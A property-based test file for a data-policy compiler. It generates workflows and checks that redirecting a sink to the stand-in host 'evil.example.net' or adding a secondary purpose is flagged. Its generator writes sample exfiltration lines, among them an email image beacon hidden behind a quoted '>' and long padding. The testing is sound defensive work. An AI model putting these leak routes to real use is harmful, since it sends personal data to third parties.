/**
 * The policy checker's promise, as a property: take a generated flow that `jig check` passes,
 * redirect one of its sinks to a third party, or give the flow a secondary purpose; whenever that
 * sink's value depends, by data or by control, on a category the new destination or purpose may
 * not receive, the result must fail. What a sink depends on is worked out here, from the generated
 * program itself (which trigger fields each value reads, which conditions each step runs under),
 * independently of the compiler's analysis.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { join } from 'node:path';
import { compileText } from '../../compiler/src/compilation.js';
import { flowFacts } from '../../compiler/src/testing/compiler-facts.js';
import { analysisDefects } from '../../compiler/src/testing/runner.js';
import { workflowDocuments, workflowSet } from '../../compiler/src/testing/workflows.js';
import { analysedRun } from '../support/analysed-run.js';
import { NO_PROJECT_SETTINGS, type ProjectSettings } from '../../compiler/src/policy/destinations.js';
import { fixtures, loadPolicyFile } from './helpers.js';

const policy = loadPolicyFile(join(fixtures, 'fixtures.policy.yaml')).policy!;
/** The client's own API, where every sink of a generated flow sends: the platform. */
const project: ProjectSettings = {
  ...NO_PROJECT_SETTINGS,
  hosts: ['internal.example.com', 'gen-fn.azurewebsites.net', 'genruns.blob.core.windows.net', 'gen-apim.azure-api.net'],
  subscriptions: ['0'],
  mailDomains: ['internal.example.com'],
  // The model each agent connection reaches: the client's own, and (a redirected agent) anyone's.
  agentConnections: { genModel: 'internal.example.com', otherModel: 'evil.example.net' },
  // The logs a tracked property goes to, declared for as long as business data may be kept.
  diagnosticLogs: { retention: { amount: 90, unit: 'days', seconds: 90 * 86_400 } },
};

/** The request's fields and their categories; `items` is a list of records. */
const FIELDS = {
  a: 'business.transaction',
  b: 'business.industry',
  p: 'personal.name',
  m: 'personal.minor',
} as const;
type Field = keyof typeof FIELDS;
const ITEM_FIELDS = { q: 'business.transaction', s: 'personal.contact' } as const;
type ItemField = keyof typeof ITEM_FIELDS;

/** What a value or a step depends on: trigger fields (`a`) and item fields (`items.q`). */
type Deps = ReadonlySet<string>;

interface Program {
  readonly fields: readonly Field[];
  readonly withItems: boolean;
  /** The field whose category the project's flow `lookup` answers whoever starts it (a `door` reads it). */
  readonly answered: Field;
  readonly steps: readonly Step[];
}

type Expr =
  | { kind: 'field'; field: Field }
  | { kind: 'literal' }
  | { kind: 'let'; index: number }
  | { kind: 'concat'; left: Expr; right: Expr }
  | { kind: 'item'; field: ItemField };

type Step =
  | { kind: 'let'; value: Expr }
  | { kind: 'sink'; value: Expr; via: Via }
  | { kind: 'if'; condition: Expr; body: readonly Step[] }
  | { kind: 'stop'; condition: Expr }
  | { kind: 'convert'; value: Expr }
  | { kind: 'call'; value: Expr; by: 'flow' | 'url'; check?: Expr }
  | { kind: 'loop'; body: readonly Step[] }
  | { kind: 'parallel'; branches: readonly (readonly Step[])[] }
  | { kind: 'switch'; subject: Expr; body: readonly Step[]; otherwise: readonly Step[] }
  | { kind: 'until'; condition: Expr; body: readonly Step[] }
  | { kind: 'try'; body: readonly Step[]; handler: readonly Step[] }
  | { kind: 'wait'; time: Expr }
  | { kind: 'respond' }
  | { kind: 'time'; value: Expr }
  | { kind: 'store'; value: Expr; container: number }
  | { kind: 'query'; container: number }
  | { kind: 'delete'; key: Expr; container: number }
  | { kind: 'parse'; value: Expr }
  | { kind: 'door'; via: Door }
  | { kind: 'tracked'; value: Expr };

/**
 * How a sink sends: a `call http` to the host, a `call function` of the client's own app whose
 * Host header names it (App Service routes by it), the client id of a `call http`'s
 * ActiveDirectoryOAuth auth whose authority is the host (its token request goes there), or a
 * read of Microsoft Graph that the workflow makes as itself (the platform), a third party's
 * tenant once it carries an `auth { … }` of its own instead (`tenant`: the host is not a URL's), a
 * `call api` of the client's own API Management instance whose Host header names the host (its
 * gateways' front ends route by it), or an image URL on the host in the body of a mail to the
 * client's own office (its reader's client fetches it), after a quoted attribute holding `>` and
 * text longer than any window, or the messages of an agent whose connection reaches the host (its
 * model's endpoint), or a step of one of its tools, which the model may run.
 */
type Via = 'http' | 'function' | 'token' | 'tenant' | 'api' | 'markup' | 'agent' | 'tool';
const VIAS: readonly Via[] = ['http', 'function', 'token', 'tenant', 'api', 'markup', 'agent', 'tool'];
/**
 * How a `door` reads what `lookup` holds: starting it by its workflow, reading its runs through
 * Resource Manager, or reading a blob of a storage account (a Standard app keeps its runs there).
 */
type Door = 'workflow' | 'history' | 'blob';

const expr = (fields: readonly Field[], inLoop: boolean): fc.Arbitrary<Expr> =>
  fc.letrec<{ expr: Expr }>((tie) => ({
    expr: fc.oneof(
      { depthSize: 'small' },
      fc.constantFrom(...fields).map((field): Expr => ({ kind: 'field', field })),
      fc.constant<Expr>({ kind: 'literal' }),
      fc.nat(6).map((index): Expr => ({ kind: 'let', index })),
      ...(inLoop ? [fc.constantFrom<ItemField>('q', 's').map((field): Expr => ({ kind: 'item', field }))] : []),
      fc.record({ kind: fc.constant('concat' as const), left: tie('expr'), right: tie('expr') }),
    ),
  })).expr;

/** `answers`: whether a `respond` may stand here (Logic Apps refuses one in a loop; a `parallel`'s is not generated). */
const steps = (fields: readonly Field[], withItems: boolean, depth: number, inLoop: boolean, answers = !inLoop): fc.Arbitrary<Step[]> => {
  const e = expr(fields, inLoop);
  const options: fc.Arbitrary<Step>[] = [
    e.map((value): Step => ({ kind: 'let', value })),
    fc.record({ kind: fc.constant('sink' as const), value: e, via: fc.constantFrom<Via>(...VIAS) }),
    e.map((value): Step => ({ kind: 'tracked', value })),
    e.map((condition): Step => ({ kind: 'stop', condition })),
    e.map((value): Step => ({ kind: 'convert', value })),
    fc.record(
      { kind: fc.constant('call' as const), value: e, by: fc.constantFrom<'flow' | 'url'>('flow', 'url'), check: e },
      { requiredKeys: ['kind', 'value', 'by'] },
    ),
    e.map((time): Step => ({ kind: 'wait', time })),
    e.map((value): Step => ({ kind: 'time', value })),
    fc.record({ kind: fc.constant('store' as const), value: e, container: fc.nat(1) }),
    fc.record({ kind: fc.constant('query' as const), container: fc.nat(1) }),
    fc.record({ kind: fc.constant('delete' as const), key: e, container: fc.nat(1) }),
    e.map((value): Step => ({ kind: 'parse', value })),
    fc.constantFrom<Door>('workflow', 'history', 'blob').map((via): Step => ({ kind: 'door', via })),
    ...(answers ? [fc.constant<Step>({ kind: 'respond' })] : []),
  ];
  if (depth > 0) {
    const inner = steps(fields, withItems, depth - 1, inLoop, answers);
    options.push(fc.record({ kind: fc.constant('if' as const), condition: e, body: inner }));
    options.push(fc.record({ kind: fc.constant('switch' as const), subject: e, body: inner, otherwise: inner }));
    options.push(fc.record({ kind: fc.constant('until' as const), condition: e, body: steps(fields, withItems, depth - 1, inLoop, false) }));
    options.push(fc.record({ kind: fc.constant('try' as const), body: inner, handler: inner }));
    if (withItems && !inLoop) options.push(fc.record({ kind: fc.constant('loop' as const), body: steps(fields, withItems, depth - 1, true) }));
    if (!inLoop) {
      const branch = steps(fields, withItems, depth - 1, inLoop, false);
      options.push(fc.record({ kind: fc.constant('parallel' as const), branches: fc.array(branch, { minLength: 2, maxLength: 3 }) }));
    }
  }
  return fc.array(fc.oneof(...options), { minLength: 1, maxLength: 6 });
};

const program: fc.Arbitrary<Program> = fc
  .record({ fields: fc.subarray(Object.keys(FIELDS) as Field[], { minLength: 1 }), withItems: fc.boolean(), answered: fc.constantFrom(...(Object.keys(FIELDS) as Field[])) })
  .chain(({ fields, withItems, answered }) => steps(fields, withItems, 2, false).map((body) => ({ fields, withItems, answered, steps: body })));

interface Rendered {
  readonly text: string;
  /** For each sink, in source order: the line it sends from, and what its value and conditions depend on. */
  readonly sinks: { readonly deps: Deps; readonly marker: string }[];
  /** For each `respond`, what decides whether its answer reaches the caller (its conditions). */
  readonly answers: { readonly deps: Deps }[];
  /** For each tracked property, what its value holds: what the diagnostic logs receive. */
  readonly logs: { readonly deps: Deps }[];
}

/**
 * The program as Jig source, and the oracle: the dependencies of every sink. A let names earlier
 * lets only (a later index reads a literal); a `stop` is `if C { fail }`, which every later step
 * then depends on; a `call` passes E to the child flow `relay` (by `call flow`, or by a request to
 * its trigger's URL on the client's own app), whose one sink then depends on E and on every
 * condition a call of it is made under, and, passed a W to check, fails after its sink on W before
 * it answers, so that its caller calls it again and the sink depends on W too (and what follows
 * the call on all the child is passed); a `convert` is `let v = int(E)`, which fails on some values of E, so every
 * later step depends on E too, as on the time of a `wait until` or of a `let … = add time`; a
 * `switch`'s blocks depend on its subject, an `until`'s body on its condition, a `catch` on what
 * stops its `try`'s body; a `respond` after one that may have answered fails, on what decided that
 * the first ran and on its own conditions; a `store` keeps E in one of two containers, and a `query`
 * of that container reads what every store of the flow keeps there, with the conditions each runs
 * under (a document exists because they held; another run stored it, so a store after the query
 * counts too), and what every `delete` there chose (its id and conditions: a document is still
 * there because no delete named it), a `delete` failing, for every later step, on its id and what
 * the container holds; a `parse` is `let v = parse json E as Row`, which fails on what E holds (Parse JSON
 * refuses what does not fit); a loop's body depends on every field of the items it runs over; a
 * `parallel`'s branches depend on what ends their siblings (a `fail`; a failing `int` stops its own
 * branch only), and what follows it on what stops any of them; a `door` starts the project's flow
 * `lookup` by another door than `call flow` (a `call workflow` of its workflow), or reads its runs
 * (Resource Manager's runs API, or a blob of a storage account, where a Standard app keeps its
 * runs), and what it gets back holds what `lookup` answers or holds: its own
 * caller's field of the category `answered` names, which a sink after it sends on. A sink sends by
 * a `call http` to its host, by a `call function` of the client's own app with its host in the
 * Host header, where App Service routes it, as an auth's client id to its token authority, or to
 * Graph with credentials of its own (sendTo). A `tracked` step writes E to the diagnostic logs
 * (a tracked property), which a secondary purpose may give only aggregates.
 */
function render(p: Program, mutate: { purpose?: string; redirect?: number; rights?: boolean } = {}): Rendered {
  const lines: string[] = [];
  const sinks: { deps: Deps; marker: string }[] = [];
  const answers: { deps: Deps }[] = [];
  const logs: { deps: Deps }[] = [];
  const lets: { name: string; deps: Deps }[] = [];
  const itemDeps = new Set(Object.keys(ITEM_FIELDS).map((f) => `items.${f}`));
  const text = (e: Expr): { code: string; deps: Set<string> } => {
    switch (e.kind) {
      case 'field':
        return { code: `trigger.body.${e.field}`, deps: new Set([e.field]) };
      case 'literal':
        return { code: '"x"', deps: new Set() };
      case 'let': {
        const known = lets[e.index];
        return known ? { code: known.name, deps: new Set(known.deps) } : { code: '"y"', deps: new Set() };
      }
      case 'item':
        return { code: `it.${e.field}`, deps: new Set([`items.${e.field}`]) };
      case 'concat': {
        const left = text(e.left);
        const right = text(e.right);
        return { code: `"\${${left.code}}-\${${right.code}}"`, deps: new Set([...left.deps, ...right.deps]) };
      }
    }
  };
  let named = 0;
  /** What decided that a `respond` walked so far ran (undefined: none did); a later one fails. */
  let responded: Set<string> | undefined;
  /** What the calls of the child flow `relay` pass it and the conditions they are made under. */
  const relayed = new Set<string>();
  const passed = new Set<string>();
  /** What decides whether the child `relay` fails before it answers: its caller then runs it again. */
  const rerun = new Set<string>();
  let checked = false;
  let calls = 0;
  let doors = 0;
  /** By container, what its stores keep there and the conditions they run under (containers' names as deps resolved at the end). */
  const stored = new Map<number, Set<string>>();
  /** What stops the rest of a block (`stops`), and what of it ends the whole run (`ends`: a `fail`). */
  interface Stopping {
    stops: Set<string>;
    ends: Set<string>;
  }
  const emit = (body: readonly Step[], indent: string, inherited: Set<string>): Stopping => {
    let stops = new Set<string>();
    let ends = new Set<string>();
    // A block that may stop or end the run does so because of what decided that it runs.
    const absorb = (deps: Iterable<string>, inner: Stopping) => {
      if (inner.stops.size > 0) stops = new Set([...stops, ...deps, ...inner.stops]);
      if (inner.ends.size > 0) ends = new Set([...ends, ...deps, ...inner.ends]);
    };
    const scopeStart = lets.length;
    for (const step of body) {
      const around = new Set([...inherited, ...stops]);
      switch (step.kind) {
        case 'let': {
          const value = text(step.value);
          const name = `v${named++}`;
          lines.push(`${indent}let ${name} = ${value.code}`);
          lets.push({ name, deps: value.deps });
          break;
        }
        case 'sink': {
          const value = text(step.value);
          const index = sinks.length;
          const host = mutate.redirect === index ? 'evil.example.net' : 'internal.example.com';
          const marker = `s${index}`;
          lines.push(sendTo(host, marker, step.via, value.code, indent));
          sinks.push({ deps: new Set([...value.deps, ...around]), marker });
          break;
        }
        case 'tracked': {
          // A tracked property writes its value to the diagnostic logs, a store (rule 6).
          const value = text(step.value);
          lines.push(`${indent}call http post "https://internal.example.com/t${logs.length}" body { v: "x" } @tracked("t", ${value.code})`);
          logs.push({ deps: value.deps });
          break;
        }
        case 'convert': {
          const value = text(step.value);
          const name = `v${named++}`;
          lines.push(`${indent}let ${name} = int(${value.code})`);
          lets.push({ name, deps: value.deps });
          stops = new Set([...stops, ...value.deps]);
          break;
        }
        case 'call': {
          // The child's one sink sends what it is passed, under the conditions it is called under.
          // Passed a `w` to check, it fails after its sink when `w` says so, before it answers: the
          // caller then sends the call again, and the sink runs again, so it depends on `w` too; and
          // what follows the call, on everything the child declares (its failure fails the call).
          const value = text(step.value);
          const check = step.check ? text(step.check) : undefined;
          const argument = check ? `{ v: ${value.code}, w: ${check.code} }` : `{ v: ${value.code} }`;
          lines.push(
            step.by === 'flow'
              ? `${indent}call flow relay with ${argument}`
              : `${indent}call http post "https://gen-fn.azurewebsites.net/api/Relay/triggers/manual/invoke?sig=x" body ${argument}`,
          );
          for (const dep of [...value.deps, ...around]) relayed.add(dep);
          for (const dep of value.deps) passed.add(dep);
          if (check) {
            checked = true;
            for (const dep of check.deps) {
              passed.add(dep);
              rerun.add(dep);
            }
            stops = new Set([...stops, RELAY]);
          }
          calls++;
          break;
        }
        case 'stop': {
          const condition = text(step.condition);
          lines.push(`${indent}if ${condition.code} == "stop" {`, `${indent}  fail "stopped"`, `${indent}}`);
          stops = new Set([...stops, ...condition.deps]);
          ends = new Set([...ends, ...condition.deps]);
          break;
        }
        case 'if': {
          const condition = text(step.condition);
          lines.push(`${indent}if ${condition.code} == "go" {`);
          const inner = emit(step.body, `${indent}  `, new Set([...around, ...condition.deps]));
          lines.push(`${indent}}`);
          absorb(condition.deps, inner);
          break;
        }
        case 'switch': {
          // Both blocks run because of what the subject holds, as an if's do; they answer once between them.
          const subject = text(step.subject);
          lines.push(`${indent}switch ${subject.code} {`, `${indent}  case "go" {`);
          const before = responded;
          const body = emit(step.body, `${indent}    `, new Set([...around, ...subject.deps]));
          const afterBody = responded;
          responded = before;
          lines.push(`${indent}  }`, `${indent}  default {`);
          const otherwise = emit(step.otherwise, `${indent}    `, new Set([...around, ...subject.deps]));
          if (afterBody !== undefined || responded !== undefined) responded = new Set([...(afterBody ?? []), ...(responded ?? [])]);
          lines.push(`${indent}  }`, `${indent}}`);
          for (const inner of [body, otherwise]) {
            absorb(subject.deps, inner);
          }
          break;
        }
        case 'until': {
          // The condition decides whether the body runs again; a failed last pass fails the loop.
          const condition = text(step.condition);
          lines.push(`${indent}until ${condition.code} == "go" {`);
          const inner = emit(step.body, `${indent}  `, new Set([...around, ...condition.deps]));
          lines.push(`${indent}}`);
          absorb(condition.deps, inner);
          break;
        }
        case 'try': {
          // The catch runs because what stops the body did; a `fail` in the body ends the run anyway.
          lines.push(`${indent}try {`);
          const body = emit(step.body, `${indent}  `, around);
          lines.push(`${indent}} catch {`);
          const handler = emit(step.handler, `${indent}  `, new Set([...around, ...body.stops]));
          lines.push(`${indent}}`);
          if (body.ends.size > 0) {
            stops = new Set([...stops, ...body.ends]);
            ends = new Set([...ends, ...body.ends]);
          }
          if (handler.stops.size > 0) stops = new Set([...stops, ...body.stops, ...handler.stops]);
          if (handler.ends.size > 0) ends = new Set([...ends, ...body.stops, ...handler.ends]);
          break;
        }
        case 'respond': {
          // A run answers once: after another answered, this one fails on what decided that, and
          // on whatever it runs under (ALWAYS: it fails even where nothing decided).
          lines.push(`${indent}respond 202`);
          answers.push({ deps: around });
          if (responded !== undefined) stops = new Set([...stops, ...responded, ALWAYS]);
          responded = new Set([...(responded ?? []), ...around]);
          break;
        }
        case 'wait': {
          // A time that is no time fails the Wait, and one far off times the run out.
          const time = text(step.time);
          lines.push(`${indent}wait until ${time.code}`);
          stops = new Set([...stops, ...time.deps]);
          break;
        }
        case 'time': {
          // A Date Time action's result holds its base time, and a base that is no time fails it.
          const value = text(step.value);
          const name = `v${named++}`;
          lines.push(`${indent}let ${name} = add time 1 days to ${value.code}`);
          lets.push({ name, deps: value.deps });
          stops = new Set([...stops, ...value.deps]);
          break;
        }
        case 'store': {
          // What a document holds, and that it exists, for whoever queries the container.
          const value = text(step.value);
          lines.push(`${indent}store { id: "x", v: ${value.code} } in cosmos("gen", "c${step.container}") @subject(person, v)`);
          const kept = stored.get(step.container) ?? new Set<string>();
          for (const dep of [...value.deps, ...around]) kept.add(dep);
          stored.set(step.container, kept);
          break;
        }
        case 'delete': {
          // What stays in the container is what the delete's id and conditions did not remove, for
          // whoever queries it; and the delete fails (404) when the document is not there.
          const key = text(step.key);
          lines.push(`${indent}delete ${key.code} from cosmos("gen", "c${step.container}")`);
          const kept = stored.get(step.container) ?? new Set<string>();
          for (const dep of [...key.deps, ...around]) kept.add(dep);
          stored.set(step.container, kept);
          stops = new Set([...stops, ...key.deps, `${CONTAINER}${step.container}`]);
          break;
        }
        case 'query': {
          const name = `v${named++}`;
          lines.push(`${indent}let ${name}rows = query cosmos("gen", "c${step.container}") returns Row[]`, `${indent}let ${name} = first(${name}rows).v`);
          lets.push({ name, deps: new Set([`${CONTAINER}${step.container}`]) });
          break;
        }
        case 'door': {
          const name = `v${named++}`;
          lines.push(
            step.via === 'workflow'
              ? `${indent}let ${name}answer = call workflow "/subscriptions/0/resourceGroups/gen/providers/Microsoft.Logic/workflows/lookup" body { k: "x" } returns Row`
              : step.via === 'history'
                ? `${indent}let ${name}answer = call http get "https://management.azure.com/subscriptions/0/resourceGroups/gen/providers/Microsoft.Logic/workflows/lookup/runs?api-version=2019-05-01" returns Row @identity("https://management.azure.com")`
                : `${indent}let ${name}answer = query blob("genruns", "flow0lookup") name "x" returns Row`,
            `${indent}let ${name} = ${name}answer.v`,
          );
          lets.push({ name, deps: new Set([`${ANSWER}${p.answered}`]) });
          doors++;
          // And a sink of it, so that what the door brings in is sent somewhere in every program that has one.
          const index = sinks.length;
          const host = mutate.redirect === index ? 'evil.example.net' : 'internal.example.com';
          lines.push(`${indent}call http post "https://${host}/s${index}" body { v: ${name} }`);
          sinks.push({ deps: new Set([`${ANSWER}${p.answered}`, ...around]), marker: `s${index}` });
          break;
        }
        case 'parse': {
          const value = text(step.value);
          const name = `v${named++}`;
          lines.push(`${indent}let ${name}row = parse json ${value.code} as Row`, `${indent}let ${name} = ${name}row.v`);
          lets.push({ name, deps: value.deps });
          stops = new Set([...stops, ...value.deps]);
          break;
        }
        case 'loop': {
          lines.push(`${indent}for each it in trigger.body.items {`);
          const inner = emit(step.body, `${indent}  `, new Set([...around, ...itemDeps]));
          lines.push(`${indent}}`);
          absorb(itemDeps, inner);
          break;
        }
        case 'parallel': {
          // A `fail` in a branch ends the run wherever the other branches are: each branch's steps
          // depend on what ends its siblings. The branches are walked once for that, then written.
          const mark = { lines: lines.length, sinks: sinks.length };
          const alone = step.branches.map((branch) => emit(branch, `${indent}  `, around));
          lines.length = mark.lines;
          sinks.length = mark.sinks;
          lines.push(`${indent}parallel {`);
          step.branches.forEach((branch, index) => {
            if (index > 0) lines.push(`${indent}} and {`);
            const siblings = alone.flatMap((other, at) => (at === index ? [] : [...other.ends]));
            emit(branch, `${indent}  `, new Set([...around, ...siblings]));
          });
          lines.push(`${indent}}`);
          for (const branch of alone) {
            stops = new Set([...stops, ...branch.stops]);
            ends = new Set([...ends, ...branch.ends]);
          }
          break;
        }
      }
    }
    // A block's lets are not visible after it.
    lets.length = scopeStart === 0 && indent === '  ' ? lets.length : scopeStart;
    return { stops, ends };
  };
  emit(p.steps, '  ', new Set());
  // A query reads what the stores keep, which may itself be what a query read: resolved to a fixpoint.
  const resolve = (deps: Deps): Set<string> => {
    const result = new Set<string>();
    const pending = [...deps];
    const seen = new Set<string>();
    while (pending.length > 0) {
      const dep = pending.pop()!;
      if (dep === RELAY) {
        if (!seen.has(dep)) pending.push(...passed);
        seen.add(dep);
        continue;
      }
      if (!dep.startsWith(CONTAINER)) {
        result.add(dep);
        continue;
      }
      if (seen.has(dep)) continue;
      seen.add(dep);
      pending.push(...(stored.get(Number(dep.slice(CONTAINER.length))) ?? []));
    }
    return result;
  };
  for (const sink of sinks) sink.deps = resolve(sink.deps);
  for (const answer of answers) answer.deps = resolve(answer.deps);
  for (const log of logs) log.deps = resolve(log.deps);
  const relayedAll = resolve(new Set([...relayed, ...rerun]));
  const passedAll = resolve(passed);
  const declared = [...new Set([...p.fields.map((f) => FIELDS[f]), ...(p.withItems ? Object.values(ITEM_FIELDS) : []), ...(doors > 0 ? [FIELDS[p.answered]] : [])])];
  const purpose = mutate.purpose ?? 'automation';
  const relay: string[] = [];
  if (calls > 0) {
    const index = sinks.length;
    const host = mutate.redirect === index ? 'evil.example.net' : 'internal.example.com';
    sinks.push({ deps: relayedAll, marker: `s${index}` });
    relay.push(
      'type Relayed {',
      // Technical data about no one, which a third party may receive: only what is passed in it, or the conditions of a call, may not go there.
      '  v: string @system.operational',
      ...(checked ? ['  w: string? @system.operational'] : []),
      '}',
      '',
      '@purpose(automation, "generated child")',
      `@data(${[...new Set(['system.operational', ...categoriesOf(passedAll)])].join(', ')})`,
      '@retain(30 days)',
      'flow relay {',
      '  trigger http post body Relayed',
      `  call http post "https://${host}/s${index}" body { v: trigger.body.v }`,
      ...(checked ? ['  if trigger.body.w == "stop" {', '    fail "refused"', '  }', '  respond 200'] : []),
      '}',
      '',
    );
  }
  // The flow a `door` starts: it answers its caller's field, of the category `answered` names.
  const lookup =
    doors === 0
      ? []
      : [
          'type Asked {',
          `  k: string @${FIELDS[p.answered]}`,
          '}',
          '',
          '@purpose(automation, "generated lookup")',
          `@data(${FIELDS[p.answered]})`,
          '@retain(30 days)',
          'flow lookup {',
          '  trigger http post body Asked',
          '  respond 200 body { id: "x", v: trigger.body.k }',
          '}',
          '',
        ];
  const source = [
    // What a query or a parse json reads: technical data about no one, so that only what the flow put there counts.
    'type Row {',
    '  id: string @system.operational',
    '  v: string @system.operational',
    '}',
    'type Item {',
    ...Object.entries(ITEM_FIELDS).map(([f, c]) => `  ${f}: string @${c}`),
    '}',
    'type In {',
    ...p.fields.map((f) => `  ${f}: string @${FIELDS[f]}`),
    ...(p.withItems ? ['  items: Item[]'] : []),
    '}',
    '',
    'param genPassword: secret',
    '',
    `@purpose(${purpose}, "generated")`,
    `@data(${declared.join(', ')})`,
    '@retain(30 days)',
    ...(purpose === 'automation' ? [] : ['@allow(s06-opt-out, "the caller sends no opted-out record")']),
    // A flow that serves data subjects' requests answers whoever asks (JIG3307).
    ...(mutate.rights ? ['@rights(access, person)'] : []),
    'flow generated {',
    '  trigger http post body In',
    ...lines,
    '}',
    '',
    ...relay,
    ...lookup,
  ].join('\n');
  return { text: source, sinks, answers, logs };
}

const check = (text: string) => compileText('generated.jig', text, { policy, project });

/**
 * A sink's step: it sends `value` to `host` by a `call http`, by a `call function` of the client's
 * own app with `host` in its Host header, as the client id of a token request to the authority
 * `host`, or to Graph (the platform as the workflow; a third party's tenant, `evil.example.net`
 * standing for it, with an `auth { … }` of its own).
 */
function sendTo(host: string, marker: string, via: Via, value: string, indent: string): string {
  switch (via) {
    case 'http':
      return `${indent}call http post "https://${host}/${marker}" body { v: ${value} }`;
    case 'function':
      return `${indent}call function post "/subscriptions/0/resourceGroups/gen/providers/Microsoft.Web/sites/gen-fn/functions/${marker}" headers { Host: "${host}" } body { v: ${value} }`;
    case 'token':
      return `${indent}call http post "https://internal.example.com/${marker}" auth { type: "ActiveDirectoryOAuth", tenant: "contoso.com", audience: "https://internal.example.com", clientId: ${value}, authority: "https://${host}" } body { v: "x" }`;
    case 'tenant': {
      // A read (a write there is a store, §2): the value goes in its query.
      const url = `"https://graph.microsoft.com/v1.0/sites/root/lists/${marker}/items?filter=\${${value}}"`;
      return host === 'internal.example.com'
        ? `${indent}let ${marker}read = call http get ${url} @identity("https://graph.microsoft.com")`
        : `${indent}let ${marker}read = call http get ${url} auth { type: "Basic", username: "gen", password: genPassword }`;
    }
    case 'api':
      return `${indent}call api post "/subscriptions/0/resourceGroups/gen/providers/Microsoft.ApiManagement/service/gen-apim/apis/gen" "/${marker}" key genPassword headers { Host: "${host}" } body { v: ${value} }`;
    case 'markup':
      return `${indent}send mail office365 to "office@internal.example.com" subject "${marker}" body "<p title=\\"a > b\\">news</p>${'.'.repeat(2100)}<img alt='\\"' src=\\"https://${host}/${marker}.png?v=\${${value}}\\">"`;
    case 'agent':
      return `${indent}let ${marker}agent = agent "${host === 'internal.example.com' ? 'genModel' : 'otherModel'}" model "gpt-4o" messages [{ role: "user", content: ${value} }]`;
    case 'tool':
      // The model is the client's own and is given nothing: the tool's step is the sink.
      return [
        `${indent}let ${marker}agent = agent "genModel" model "gpt-4o" messages [{ role: "user", content: "go" }] tools {`,
        `${indent}  tool ${marker}tool "Send" {`,
        `${indent}    call http post "https://${host}/${marker}" body { v: ${value} }`,
        `${indent}  }`,
        `${indent}}`,
      ].join('\n');
  }
}

/** The start of a dependency on what one of the generated containers holds (`c0`, `c1`), resolved once every store is known. */
const CONTAINER = 'container:';
/** A dependency on everything the child flow `relay` is passed: what its failure decides, resolved once every call is known. */
const RELAY = 'relay:';

/** The start of a dependency on what the flow `lookup` answers: `answer.FIELD`, of that field's category. */
const ANSWER = 'answer.';

/** A dependency that stands for no data: a step that fails wherever it runs (a second `respond`). */
const ALWAYS = 'always';

/** The categories a set of dependencies stands for. */
function categoriesOf(deps: Deps): string[] {
  return [...deps]
    .filter((dep) => dep !== ALWAYS)
    .map((dep) =>
      dep.startsWith('items.') ? ITEM_FIELDS[dep.slice(6) as ItemField]
      : dep.startsWith(ANSWER) ? FIELDS[dep.slice(ANSWER.length) as Field]
      : FIELDS[dep as Field],
    );
}

describe('a flow that passes keeps the policy when its data goes elsewhere', () => {
  test('redirecting a sink to a third party fails whenever the sink depends on categorised data', () => {
    fc.assert(
      fc.property(program, fc.nat(), (p, pick) => {
        const base = render(p);
        fc.pre(base.sinks.length > 0 && !check(base.text).hasErrors);
        const index = pick % base.sinks.length;
        const sink = base.sinks[index]!;
        const redirected = check(render(p, { redirect: index }).text);
        if (categoriesOf(sink.deps).length > 0) {
          expect(
            redirected.diagnostics.some((d) => d.severity === 'error' && (d.code === 'JIG3301' || d.code === 'JIG3901')),
            `${render(p, { redirect: index }).text}\nsink ${sink.marker} depends on ${[...sink.deps].join(', ')}`,
          ).toBe(true);
        }
      }),
      { numRuns: 150 },
    );
  });

  test('a flow that serves data subjects\' requests fails whenever whether it answers depends on categorised data', () => {
    fc.assert(
      fc.property(program, (p) => {
        const base = render(p);
        fc.pre(base.answers.length > 0 && !check(base.text).hasErrors);
        const rights = render(p, { rights: true });
        const told = rights.answers.some((answer) => categoriesOf(answer.deps).length > 0);
        if (told) {
          expect(
            check(rights.text).diagnostics.some((d) => d.severity === 'error' && (d.code === 'JIG3307' || d.code === 'JIG3901')),
            `${rights.text}\nanswers depend on ${rights.answers.map((answer) => [...answer.deps].join(', ')).join(' | ')}`,
          ).toBe(true);
        }
      }),
      { numRuns: 150 },
    );
  });

  test('a secondary purpose fails whenever a sink depends on raw data', () => {
    fc.assert(
      fc.property(program, (p) => {
        const base = render(p);
        fc.pre(base.sinks.length > 0 && !check(base.text).hasErrors);
        const secondary = render(p, { purpose: 'analytics' });
        const raw = [...base.sinks, ...base.logs].some((sink) => categoriesOf(sink.deps).length > 0);
        if (raw) expect(check(secondary.text).hasErrors, secondary.text).toBe(true);
      }),
      { numRuns: 150 },
    );
  });

  /** Trigger bodies of the generated flows' `In` type, the items included. */
  const body = fc.record({
    a: fc.constantFrom('x', 'go', 'stop', ''),
    b: fc.constantFrom('x', 'go', ''),
    p: fc.constantFrom('x', 'go', 'Ann'),
    m: fc.constantFrom('x', 'go', '1'),
    items: fc.array(fc.record({ q: fc.constantFrom('x', 'go'), s: fc.constantFrom('x', 'go') }), { maxLength: 3 }),
  });

  test('a flow that passes, run, reaches each sink and run history only with what the analysis predicted', () => {
    fc.assert(
      fc.property(program, fc.array(body, { minLength: 1, maxLength: 3 }), (p, bodies) => {
        const { text } = render(p);
        const compilation = check(text);
        fc.pre(!compilation.hasErrors);
        const emitted = compilation.emit();
        const facts = new Map(emitted.workflows.map((workflow) => [workflow.name, flowFacts(compilation, workflow)]));
        const set = workflowSet(emitted.workflows.flatMap(workflowDocuments), [], undefined, new Map(), facts);
        for (const name of facts.keys()) {
          for (const input of bodies) {
            const record = analysedRun(set, name, input);
            // A store of personal data writes the opt-out mark it reads from its own container
            // (steps-connectors.ts optOutMarkOf), a flow from the container back into it that the
            // analysis does not model: what reaches a store is left out here, the rest is checked.
            const defects = analysisDefects(record, set).filter((defect) => !/^analysis defect: .* reached Store_/.test(defect));
            expect(defects, `${text}\n${JSON.stringify(input)}`).toEqual([]);
          }
        }
      }),
      { numRuns: 150 },
    );
  });
});
